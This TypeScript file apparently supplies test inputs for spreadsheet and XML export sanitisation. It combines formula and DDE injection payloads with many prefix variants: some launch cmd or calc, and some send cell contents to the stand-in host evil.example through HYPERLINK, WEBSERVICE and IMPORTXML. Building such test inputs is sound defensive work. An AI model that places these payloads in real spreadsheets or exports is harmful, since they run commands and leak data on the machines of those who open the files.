const COMMANDS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?"&A1,"点击查看")',
  'IMPORTXML("http://evil.example","//a")',
  'WEBSERVICE("http://evil.example/"&A1)',
  'DDE("cmd";"/C calc";"x")',
  '1+1',
  'SUM(1,1)*cmd|calc!A0',
  'INDIRECT("A1")',
  "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
  '1234567890123456789',
  'rundll32',
  '"";WEBSERVICE("x")',
];
const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u200b=',
  '\ufeff=',
  '\u00a0=',
  "'=",
];
const OTHERS = [
  '<f>1+1</f>',
  '</t></is><f>1</f>',
  '<![CDATA[=1]]>',
  '&equals;1+1',
  '&#61;1+1',
  ']]>',
  '<!DOCTYPE x>',
  '_x003D_1+1',

  '_x005F_x003D_',
  '\u0001=1',
  '\u0000',
  '\u000b=1',
  '\uffff',
  '𠀀=1',
  '玚',
  'a\r\nb',
  'tail\r',
  '\ttab',
  'x\u2028y',
  '%3D1+1',
];

/** Texts that spreadsheets or XML could take for more than text. */
export function hostileTexts(): string[] {
  return [...STARTS.flatMap((start) => COMMANDS.map((command) => start + command)), ...OTHERS];
}
